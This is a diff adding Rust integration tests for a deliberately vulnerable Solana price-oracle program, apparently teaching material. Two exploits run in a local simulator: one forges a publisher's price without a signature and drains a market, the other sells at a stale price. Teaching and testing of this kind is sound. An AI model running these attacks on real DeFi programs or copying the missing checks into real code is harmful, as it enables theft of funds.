@@ -0,0 +1,195 @@
+// Integration tests for ORACLE-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+// Each exploit is carried through to the example consumer to show the loss a
+// program that trusts the oracle actually takes.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/oracle/oracle-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::{native_token::LAMPORTS_PER_SOL, signature::{Keypair, Signer}};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use utils::*;
+
+// Feed and market plus the attacker's wallet, shared by both scenarios
+struct AttackState {
+    scenario: OracleScenario,
+    attacker: Keypair,
+}
+
+// EXPLOIT: V001 - Missing publisher signature check on push_price
+// Demonstrates: An outsider forges a price in a publisher's name and drains the consumer
+struct UnsignedPricePush;
+
+impl ExploitScenario for UnsignedPricePush {
+    type State = AttackState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Forged Price Push - Missing Publisher Signature",
+            severity: Severity::Critical,
+            lesson: "A publisher list is only as strong as the signature behind it: use Signer",
+        }
+    }
+
+    fn setup(&self) -> AttackState {
+        println!("This test demonstrates how checking list membership without a signature");
+        println!("lets anyone publish any price, and how a consumer pays for it.");
+        println!();
+
+        let mut scenario = setup_oracle_scenario();
+        push_price(&mut scenario, PRICE, CONFIDENCE).expect("Push should succeed");
+        println!("[Setup] Publisher pushed 100 quote per base");
+        println!("[Setup] Market holds {} quote", MARKET_LIQUIDITY / ONE_TOKEN);
+
+        let attacker = create_seller(&mut scenario, ONE_TOKEN / 10);
+        AttackState { scenario, attacker }
+    }
+
+    fn exploit(&self, state: &mut AttackState) -> TransactionResult {
+        let AttackState { scenario, attacker } = state;
+        let victim_publisher = scenario.publishers[0].pubkey();
+
+        println!();
+        println!("[EXPLOIT] Attacker pushes 1000x the price naming publisher {}", victim_publisher);
+        println!("[EXPLOIT] In secure version, this should FAIL with a missing signature");
+        let ix = build_push_price_ix(&victim_publisher, &scenario.feed, PRICE * 1_000, CONFIDENCE * 1_000);
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut AttackState) -> u64 {
+        let AttackState { scenario, attacker } = state;
+
+        let feed_price = get_feed_price(&scenario.svm, &scenario.feed);
+        assert_eq!(feed_price.price, PRICE * 1_000);
+        assert_eq!(feed_price.last_publisher, scenario.publishers[0].pubkey());
+        println!("[RESULT] Feed now reads 100,000 quote per base, attributed to the real publisher");
+
+        println!("[EXPLOIT] Attacker sells 0.1 base (worth 10 quote) to the market");
+        let result = sell(scenario, attacker, ONE_TOKEN / 10, 0);
+
+        println!();
+        println!("[RESULT] Market drain: {:?}", if result.is_ok() { "SUCCESS" } else { "FAILED" });
+        assert!(result.is_ok(), "Sale should succeed: {:?}", result.err());
+
+        assert_eq!(quote_balance(scenario, &attacker.pubkey()), MARKET_LIQUIDITY);
+        assert_eq!(token_balance(&scenario.svm, &scenario.quote_vault), 0);
+        println!("[IMPACT] Attacker received {} quote for 10 quote of base", MARKET_LIQUIDITY / ONE_TOKEN);
+        println!("[IMPACT] Market's quote vault is empty");
+
+        MARKET_LIQUIDITY
+    }
+}
+
+#[test]
+fn test_exploit_unsigned_price_push() {
+    run_exploit(&UnsignedPricePush);
+}
+
+// EXPLOIT: V002 - Missing staleness check on get_price
+// Demonstrates: After the publisher goes quiet, sellers trade at an outdated price
+struct StalePrice;
+
+impl ExploitScenario for StalePrice {
+    type State = AttackState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V002",
+            title: "Stale Price Arbitrage - Missing Staleness Check",
+            severity: Severity::High,
+            lesson: "Reject prices older than the feed's max_staleness_seconds",
+        }
+    }
+
+    fn setup(&self) -> AttackState {
+        println!("This test demonstrates how a price that is never checked for age keeps");
+        println!("paying out long after the real market has moved.");
+        println!();
+
+        let mut scenario = setup_oracle_scenario();
+        push_price(&mut scenario, PRICE, CONFIDENCE).expect("Push should succeed");
+        println!("[Setup] Publisher pushed 100 quote per base, then went offline");
+
+        let attacker = create_seller(&mut scenario, 100 * ONE_TOKEN);
+        AttackState { scenario, attacker }
+    }
+
+    fn exploit(&self, state: &mut AttackState) -> TransactionResult {
+        let AttackState { scenario, attacker } = state;
+
+        println!();
+        println!("[EXPLOIT] One day passes; the real price falls to 10 quote per base");
+        advance_time(&mut scenario.svm, 24 * 60 * 60);
+        let feed_price = get_feed_price(&scenario.svm, &scenario.feed);
+        let age = current_timestamp(&scenario.svm) - feed_price.publish_ts;
+        assert!(age > MAX_STALENESS_SECONDS);
+        println!("[EXPLOIT] Feed price is {}s old (limit {}s)", age, MAX_STALENESS_SECONDS);
+
+        println!("[EXPLOIT] Attacker buys 100 base elsewhere for 1,000 quote and sells it to the market");
+        println!("[EXPLOIT] In secure version, this should FAIL with StalePrice");
+        sell(scenario, attacker, 100 * ONE_TOKEN, 0)
+    }
+
+    fn assert_impact(&self, state: &mut AttackState) -> u64 {
+        let AttackState { scenario, attacker } = state;
+
+        println!();
+        println!("[RESULT] Stale sale: SUCCESS");
+
+        assert_eq!(quote_balance(scenario, &attacker.pubkey()), MARKET_LIQUIDITY);
+        assert_eq!(token_balance(&scenario.svm, &scenario.quote_vault), 0);
+        println!("[IMPACT] Attacker received 10,000 quote for base worth 1,000");
+        println!("[IMPACT] Market lost 9,000 quote to a day-old price");
+
+        9_000 * ONE_TOKEN
+    }
+}
+
+#[test]
+fn test_exploit_stale_price() {
+    run_exploit(&StalePrice);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal oracle lifecycle");
+
+    let mut scenario = setup_oracle_scenario();
+    assert_eq!(get_feed_price(&scenario.svm, &scenario.feed).publish_ts, 0);
+    println!("[Success] Feed created with no price");
+
+    push_price(&mut scenario, PRICE, CONFIDENCE).expect("Push should succeed");
+    let feed_price = get_feed_price(&scenario.svm, &scenario.feed);
+    assert_eq!(feed_price.price, PRICE);
+    assert_eq!(feed_price.confidence, CONFIDENCE);
+    assert_eq!(feed_price.last_publisher, scenario.publishers[0].pubkey());
+    println!("[Success] Publisher pushed 100 quote per base");
+
+    let outsider = create_funded_account(&mut scenario.svm, LAMPORTS_PER_SOL);
+    let ix = build_push_price_ix(&outsider.pubkey(), &scenario.feed, PRICE, CONFIDENCE);
+    assert!(send_ix(&mut scenario.svm, ix, &outsider).is_err(), "Unlisted publisher should fail");
+    println!("[Success] Keys outside the publisher list are still rejected");
+
+    let seller = create_seller(&mut scenario, 10 * ONE_TOKEN);
+    let result = sell(&mut scenario, &seller, 10 * ONE_TOKEN, 1_000 * ONE_TOKEN);
+    assert!(result.is_ok(), "Sale failed: {:?}", result.err());
+    assert_eq!(quote_balance(&scenario, &seller.pubkey()), 1_000 * ONE_TOKEN);
+    println!("[Success] Consumer bought 10 base for 1,000 quote via CPI");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}